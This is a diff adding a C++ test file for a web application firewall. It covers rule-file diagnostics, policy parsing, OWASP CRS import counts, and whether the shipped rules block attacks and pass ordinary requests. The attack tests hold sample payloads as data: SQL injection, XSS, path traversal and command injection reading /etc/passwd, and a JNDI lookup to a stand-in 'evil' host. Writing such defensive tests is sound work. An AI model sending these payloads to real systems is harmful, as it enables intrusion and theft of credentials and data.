@@ -1,0 +1,232 @@
+// The rules directory: bad rule files with their expected diagnostics (data-driven), the shipped
+// rules against attack and clean requests, policy parsing, and the OWASP CRS import counts.
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+
+#include "../waf/engine_fixture.hh"
+#include "rules/loader.hh"
+#include "rules/secrule.hh"
+
+#ifndef RULES_TEST_DATA
+#error "RULES_TEST_DATA must name tests/unit/rules"
+#endif
+#ifndef RULES_SHIPPED_DIR
+#error "RULES_SHIPPED_DIR must name rules/shipped"
+#endif
+
+namespace fs = std::filesystem;
+
+namespace {
+
+std::string read(const fs::path& p) {
+  std::ifstream in(p);
+  std::stringstream ss;
+  ss << in.rdbuf();
+  return ss.str();
+}
+
+// Each tests/unit/rules/bad/*.yaml starts with "# expect: <text>"; loading (and compiling) it must
+// fail with an error whose text contains <text>, {file} standing for the file's path.
+TEST(bad_rules, each_file_fails_with_its_expected_diagnostic) {
+  size_t n = 0;
+  for (const auto& e : fs::directory_iterator(fs::path(RULES_TEST_DATA) / "bad")) {
+    std::string text = read(e.path());
+    ASSERT_TRUE(text.starts_with("# expect: ")) << e.path();
+    std::string expect = text.substr(10, text.find('\n') - 10);
+    auto pos = expect.find("{file}");
+    if (pos != std::string::npos) expect.replace(pos, 6, e.path().string());
+    auto rs = rules::load_rule_file(e.path().string());
+    std::string got;
+    if (!rs) {
+      got = rs.error().str();
+    } else {
+      auto c = waf::ruleset::compile(std::move(*rs));
+      ASSERT_FALSE(c) << e.path() << " should not compile";
+      got = c.error().str();
+    }
+    EXPECT_NE(got.find(expect), std::string::npos) << e.path() << "\n  want: " << expect << "\n  got:  " << got;
+    ++n;
+  }
+  EXPECT_GE(n, 15u);
+}
+
+TEST(loader, directory_ids_must_be_unique_across_files) {
+  auto dir = fs::temp_directory_path() / ("rules-dup-" + std::to_string(::getpid()));
+  fs::create_directories(dir);
+  std::ofstream(dir / "a.yaml") << "rules:\n  - id: 5\n    phase: args\n    pattern: x\n";
+  std::ofstream(dir / "b.yaml") << "rules:\n  - id: 5\n    phase: args\n    pattern: y\n";
+  auto r = rules::load_rules_dir(dir.string());
+  ASSERT_FALSE(r);
+  EXPECT_NE(r.error().str().find("b.yaml:2:5: rule 5: duplicate id in directory"), std::string::npos)
+      << r.error().str();
+  fs::remove_all(dir);
+}
+
+TEST(loader, set_defaults_to_file_stem_and_severity_sets_score) {
+  auto r = rules::parse_rule_file("rules:\n  - id: 1\n    phase: args\n    pattern: x\n    severity: warning\n",
+                                  "dir/myset.yaml");
+  ASSERT_TRUE(r);
+  EXPECT_EQ((*r)[0].set, "myset");
+  EXPECT_EQ((*r)[0].severity, 4);
+  EXPECT_EQ((*r)[0].score, 3);
+  EXPECT_EQ((*r)[0].where, "dir/myset.yaml:2:5");
+}
+
+TEST(policy, parses_every_key) {
+  auto doc = YAML::Load(R"(name: web
+rule_sets: [sqli, xss]
+mode: detect_only
+anomaly_threshold: 7
+paranoia: 2
+body_limit: 4096
+on_body_limit: inspect_partial
+limits: {max_request_line: 1024, max_header_line: 2048, max_header_count: 20, max_head_bytes: 8192}
+exclusions:
+  - rules: [100100, 100101]
+    path_prefix: /search
+    arg: q
+)");
+  auto p = rules::parse_policy(doc, "p.yaml");
+  ASSERT_TRUE(p) << p.error().str();
+  EXPECT_EQ(p->name, "web");
+  EXPECT_TRUE(p->detect_only);
+  EXPECT_EQ(p->anomaly_threshold, 7);
+  EXPECT_EQ(p->paranoia, 2);
+  EXPECT_EQ(p->body_limit, 4096u);
+  EXPECT_EQ(p->on_body_limit, waf::body_limit_action::inspect_partial);
+  EXPECT_EQ(p->limits.max_header_count, 20u);
+  ASSERT_EQ(p->exclusions.size(), 1u);
+  EXPECT_EQ(p->exclusions[0].rule_ids, (std::vector<uint32_t>{100100, 100101}));
+  EXPECT_EQ(p->exclusions[0].arg, "q");
+}
+
+TEST(policy, errors_name_the_position) {
+  struct c {
+    const char* yaml;
+    const char* want;
+  } cases[] = {{"mode: block\n", "p.yaml:1:7: policy default: unknown mode 'block'"},
+               {"paranoia: 5\n", "p.yaml:1:11: policy default: 'paranoia' out of range 1..4"},
+               {"limits: {max_head_bytes: 100}\n", "'max_head_bytes' out of range 256..65536"},
+               {"exclusions: [{path_prefix: /x}]\n", "an exclusion needs 'rules'"},
+               {"threshold: 5\n", "p.yaml:1:1: unknown key 'threshold' in policy"}};
+  for (const auto& k : cases) {
+    auto p = rules::parse_policy(YAML::Load(k.yaml), "p.yaml");
+    ASSERT_FALSE(p) << k.yaml;
+    EXPECT_NE(p.error().str().find(k.want), std::string::npos) << p.error().str();
+  }
+}
+
+// The shipped rules: every attack class blocked, ordinary traffic passes.
+class shipped : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    auto rs = rules::load_rules_dir(RULES_SHIPPED_DIR);
+    ASSERT_TRUE(rs) << rs.error().str();
+    auto c = waf::ruleset::compile(std::move(*rs));
+    ASSERT_TRUE(c) << c.error().str();
+    auto b = waf::bound_policy::bind(*c, {});
+    ASSERT_TRUE(b);
+    e_ = new waf_test::engine();
+    e_->pol = *b;
+    e_->ws = std::make_unique<waf::worker_scratch>(std::move(*waf::worker_scratch::create(**c)));
+  }
+  static void TearDownTestSuite() { delete e_; }
+  static waf_test::engine* e_;
+};
+waf_test::engine* shipped::e_ = nullptr;
+
+std::string req(const std::string& target, const std::string& headers = "") {
+  return "GET " + target + " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\n" + headers + "\r\n";
+}
+
+TEST_F(shipped, attacks_are_blocked_by_the_expected_rule) {
+  struct c {
+    std::string r;
+    uint32_t rule;
+  } cases[] = {
+      {req("/p?id=1%27%20UNION%20ALL%20SELECT%20user,pass%20FROM%20users--"), 100100},
+      {req("/login?u=admin%27%20or%20%271%27=%271"), 100101},
+      {req("/p?id=1%27;%20DROP%20TABLE%20users"), 100102},
+      {req("/p?id=1%20AND%20SLEEP(5)"), 100103},
+      {req("/p?q=%3Cscript%3Ealert(1)%3C/script%3E"), 100200},
+      {req("/p?q=%3Cimg%20src=x%20onerror=alert(1)%3E"), 100201},
+      {req("/p?u=jav%09ascript:alert(1)"), 100202},
+      {req("/static/../../etc/passwd"), 100300},
+      {req("/d?file=..%252f..%252fetc%252fpasswd"), 100300},
+      {req("/p?host=127.0.0.1;cat%20/etc/passwd"), 100400},
+      {req("/x", "X-Api: ${jndi:ldap://evil/a}\r\n"), 100402},
+      {"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.7\r\n\r\n", 100500},
+      {"TRACK / HTTP/1.1\r\nHost: a\r\n\r\n", 100600},
+  };
+  for (const auto& k : cases) {
+    auto o = waf_test::run1(*e_, k.r);
+    EXPECT_EQ(o.kind, waf::verdict_kind::block) << k.r;
+    EXPECT_NE(std::find(o.ids.begin(), o.ids.end(), k.rule), o.ids.end()) << k.r << " expected rule " << k.rule;
+  }
+}
+
+TEST_F(shipped, ordinary_requests_pass) {
+  const std::string cases[] = {
+      req("/"),
+      req("/search?q=union+station+opening+hours&page=2"),
+      req("/products/shoes?color=black&size=42", "Cookie: session=abc123; theme=dark\r\n"),
+      req("/articles/2024/select-the-best-coffee"),
+      req("/api/v1/items?sort=-created&filter=name%3Dfoo"),
+      "POST /api/items HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 27\r\n\r\n"
+      "{\"name\":\"chair\",\"qty\":10}\r\n",
+  };
+  for (const auto& r : cases) {
+    auto o = waf_test::run1(*e_, r);
+    EXPECT_EQ(o.kind, waf::verdict_kind::pass) << r << " matched " << (o.ids.empty() ? 0 : o.ids[0]);
+  }
+}
+
+// Debian's modsecurity-crs: the importer loads the rules it can express and lists every other one
+// with its reason. The counts pin the importer's coverage (CRS 3.3.x).
+TEST(crs_import, debian_crs_loads_with_counted_skips) {
+  const fs::path dir = "/usr/share/modsecurity-crs/rules";
+  if (!fs::is_directory(dir)) GTEST_SKIP() << "modsecurity-crs not installed";
+  std::vector<std::string> files;
+  for (const auto& e : fs::directory_iterator(dir))
+    if (e.path().extension() == ".conf") files.push_back(e.path().string());
+  std::sort(files.begin(), files.end());
+  auto r = rules::import_secrules(files);
+  ASSERT_TRUE(r) << r.error().str();
+  size_t total = r->rules.size() + r->skipped.size();
+  std::printf("CRS import: %zu SecRule chains, %zu imported, %zu skipped\n", total, r->rules.size(),
+              r->skipped.size());
+  for (const auto& [reason, n] : r->skipped_by_reason()) std::printf("  skipped %4zu  %s\n", n, reason.c_str());
+  EXPECT_EQ(total, 624u);
+  EXPECT_GE(r->rules.size(), 150u);
+  for (const auto& s : r->skipped) {
+    EXPECT_FALSE(s.reason.empty());
+    EXPECT_NE(s.where.find(".conf:"), std::string::npos);
+  }
+  auto by = r->skipped_by_reason();
+  EXPECT_EQ(by["response phase"], 47u);
+  EXPECT_GT(by["paranoia gate (level applied to the following rules)"], 100u);
+  // Known rules and what they became.
+  auto find = [&](uint32_t id) -> const waf::rule* {
+    for (const auto& x : r->rules)
+      if (x.id == id) return &x;
+    return nullptr;
+  };
+  const waf::rule* sqli = find(942160);  // sleep()/benchmark()
+  ASSERT_NE(sqli, nullptr);
+  EXPECT_EQ(sqli->act, waf::action::score);
+  EXPECT_EQ(sqli->score, 5);
+  EXPECT_EQ(sqli->paranoia, 1);
+  const waf::rule* scanner = find(913100);  // @pmFromFile scanners-user-agents.data
+  ASSERT_NE(scanner, nullptr);
+  EXPECT_EQ(scanner->conditions[0].oper, waf::op::pm);
+  EXPECT_GT(scanner->conditions[0].args.size(), 50u);
+  const waf::rule* pl2 = find(942430);
+  ASSERT_NE(pl2, nullptr);
+  EXPECT_EQ(pl2->paranoia, 2);
+}
+
+}  // namespace
